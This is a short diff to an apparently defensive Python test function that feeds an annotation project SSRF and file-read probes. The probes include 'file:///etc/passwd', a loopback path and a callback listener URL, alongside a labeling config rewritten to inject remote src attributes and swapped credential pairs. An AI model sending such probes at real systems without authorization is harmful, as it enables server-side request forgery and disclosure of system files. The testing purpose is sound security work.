@@ -150,7 +150,7 @@ def every_door(http: httpx.Client, project: StudioProject, config: str, listener
     places = (f"{listener.url}/a.txt", "file:///etc/passwd", "/etc/passwd", "s3://bucket/a", "//127.0.0.1/a")
     asked["tasks"] += [{"id": 10**6 + n, "data": {"text": place}} for n, place in enumerate(places)]
     hostile = config.replace("<View>", f'<View><Style src="{listener.url}"/>').replace(
-        'value="$text"', f'value="$text" savetextresult="yes" src="{listener.url}/x"'
+        'value="$text"', f'value="$text" valueType="url" savetextresult="yes" src="{listener.url}/x"'
     )
     bad = [(USER, SETUP_TOKEN), (PASSWORD, USER)]
     calls = [
